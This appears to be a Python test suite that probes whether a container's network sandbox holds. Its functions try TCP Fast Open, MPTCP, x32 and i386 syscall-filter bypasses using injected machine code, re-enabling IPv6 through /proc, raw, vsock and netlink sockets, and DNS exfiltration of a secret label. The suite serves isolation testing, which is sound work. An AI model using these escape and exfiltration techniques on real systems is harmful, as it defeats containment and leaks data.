"""Out, past the proxy, by every protocol. The peers echo what they hear; who hears an echo got through."""

import ctypes
import errno
import mmap
import os
import socket
import struct

from attack import X86, Blocked, Impossible, attack, call, checked, libc, until

# The proxy and, at another port, a service beside it.
NEIGHBOUR = os.environ.get("ATTACK_NEIGHBOUR", "")
# What the proxy alone may reach.
OUTSIDE = os.environ.get("ATTACK_OUTSIDE", "")
# The host's address on the network outside, and a port that the test listens on there.
HOST = os.environ.get("ATTACK_HOST", "")
HOST_PORT = int(os.environ.get("ATTACK_HOST_PORT", "0"))
PROXY, OTHER = 3128, 9999
MPTCP, FASTOPEN = 262, 0x20000000


def echo(client):
    client.settimeout(1.5)
    client.sendall(b"takumi")
    heard(client)


def heard(client):
    client.settimeout(1.5)
    try:
        if client.recv(16) != b"takumi":
            raise Blocked("no echo")
    except OSError as error:
        raise no_way(error) from None


def tcp(address, port, protocol=0):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as client:
        client.settimeout(1.5)
        try:
            client.connect((address, port))
        except OSError as error:
            raise no_way(error) from None
        echo(client)


def no_way(error):
    """Engines differ in how they keep an internal network in: no route, or one whose packets are dropped."""
    if isinstance(error, TimeoutError) or error.errno in (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.ETIMEDOUT):
        return Blocked("nothing comes back")
    return error


@attack
def connect_out():
    tcp(OUTSIDE, OTHER)


@attack
def connect_out_at_the_proxys_port():
    """The lock knows ports, not addresses."""
    tcp(OUTSIDE, PROXY)


@attack
def connect_to_the_host():
    tcp(HOST, HOST_PORT)


@attack
def connect_to_a_neighbour():
    tcp(NEIGHBOUR, OTHER)


@attack
def connect_by_mptcp():
    tcp(NEIGHBOUR, OTHER, MPTCP)


@attack
def send_by_fast_open():
    with socket.socket() as client:
        client.sendto(b"takumi", FASTOPEN, (NEIGHBOUR, OTHER))
        heard(client)


def message(address, port):
    """struct msghdr with a name and six bytes."""
    name = ctypes.create_string_buffer(struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(address)), 16)
    body = ctypes.create_string_buffer(b"takumi", 6)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(body), 6)
    header = (ctypes.c_void_p * 7)(ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0)
    return header, (name, body, vector)


@attack
def send_by_fast_open_and_sendmsg():
    with socket.socket() as client:
        client.sendmsg([b"takumi"], [], FASTOPEN, (NEIGHBOUR, OTHER))
        heard(client)


@attack
def send_by_fast_open_and_sendmmsg():
    header, _keep = message(NEIGHBOUR, OTHER)
    one = ctypes.create_string_buffer(bytes(header) + bytes(8))
    with socket.socket() as client:
        call("sendmmsg", client.fileno(), one, 1, FASTOPEN)
        heard(client)


@attack
def connect_after_setsockopt_fast_open():
    """TCP_FASTOPEN_CONNECT: connect() answers at once, the first write connects."""
    with socket.socket() as client:
        client.setsockopt(socket.IPPROTO_TCP, 30, 1)
        client.connect((NEIGHBOUR, OTHER))
        echo(client)


@attack
def connect_by_x32():
    """The third set of call numbers of x86_64: a filter that forgets it lets MPTCP through."""
    if not X86:
        raise Impossible("x86_64 alone has it")
    number = checked(libc.syscall(ctypes.c_long(0x40000000 + 41), 2, 1, MPTCP))
    os.close(number)


@attack
def connect_by_i386():
    """int 0x80: the numbers of i386 (359 is socket), which a filter has to refuse or know."""
    if not X86:
        raise Impossible("x86_64 alone has it")
    # push rbx; mov eax,359; mov ebx,2; mov ecx,1; mov edx,262; int 0x80; cdqe; pop rbx; ret
    code = bytes.fromhex("53 b8 67010000 bb 02000000 b9 01000000 ba 06010000 cd80 4898 5b c3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    if result < 0:
        raise OSError(-result, "int 0x80")


@attack
def send_by_udp_to_a_neighbour():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect((NEIGHBOUR, OTHER))
        client.send(b"takumi")
        heard(client)


@attack
def open_a_udp_lite_socket():
    """UDP with another number, which a rule for UDP forgets."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).close()


@attack
def send_by_ipv6():
    """To everybody on the link. Where the engine has turned IPv6 off for this network, whoever may write the switch turns it on."""
    interface = next((name for _, name in socket.if_nameindex() if name != "lo"), None)
    if interface is None:
        raise Impossible("no network")

    def sent():
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as client:
            try:
                client.sendto(b"takumi", ("ff02::1", OTHER, 0, socket.if_nametoindex(interface)))
                return True
            except OSError as error:
                if error.errno not in (errno.ENETUNREACH, errno.EADDRNOTAVAIL):
                    raise
                return False

    if sent():
        return
    try:
        with open(f"/proc/sys/net/ipv6/conf/{interface}/disable_ipv6", "w") as switch:
            switch.write("0")
    except OSError:
        raise Blocked("no IPv6 on this network") from None
    if not until(sent):
        raise Blocked("no IPv6 on this network")


@attack
def send_by_udp_out():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        try:
            client.connect((OUTSIDE, OTHER))
            client.send(b"takumi")
        except OSError as error:
            raise no_way(error) from None
        heard(client)


@attack
def carry_data_out_by_dns():
    """Asks whatever resolver the container has for a name that is the secret; the peer's answer shows that somebody outside heard it."""
    servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    labels = b"".join(bytes([len(part)]) + part for part in (b"s3cret", b"takumi-test", b"example"))
    question = struct.pack(">6H", 0x7AC0, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    for server in servers:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(4)
            client.connect((server, 53))
            client.send(question)
            try:
                if socket.inet_aton("192.0.2.77") in client.recv(512):
                    return
            except (TimeoutError, ConnectionRefusedError):
                pass
    raise Blocked("nobody outside hears it")


@attack
def open_a_raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attack
def open_a_packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()


@attack
def ping_out():
    """Without a raw socket: SOCK_DGRAM and ICMP, for the groups of net.ipv4.ping_group_range."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
        client.settimeout(1.5)
        try:
            client.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FF, 0, 0), (OUTSIDE, 0))
            client.recv(64)
        except OSError as error:
            raise no_way(error) from None


@attack
def open_a_vsock():
    """To the hypervisor, where the host is a virtual machine."""
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()


@attack
def change_the_routes():
    """RTM_NEWROUTE with no content: refused before it is read."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.settimeout(1.5)
        body = struct.pack("=8BI", socket.AF_INET, 32, 0, 0, 254, 3, 0, 1, 0)
        netlink.send(struct.pack("=IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
        answer = netlink.recv(4096)
        error = -struct.unpack("=i", answer[16:20])[0]
        if error in (errno.EPERM, errno.EACCES):
            raise OSError(error, "netlink")


@attack
def wait_for_visitors():
    """A port of its own, for whoever can reach the container."""
    with socket.socket() as server:
        server.bind(("0.0.0.0", 0))
        server.listen(1)
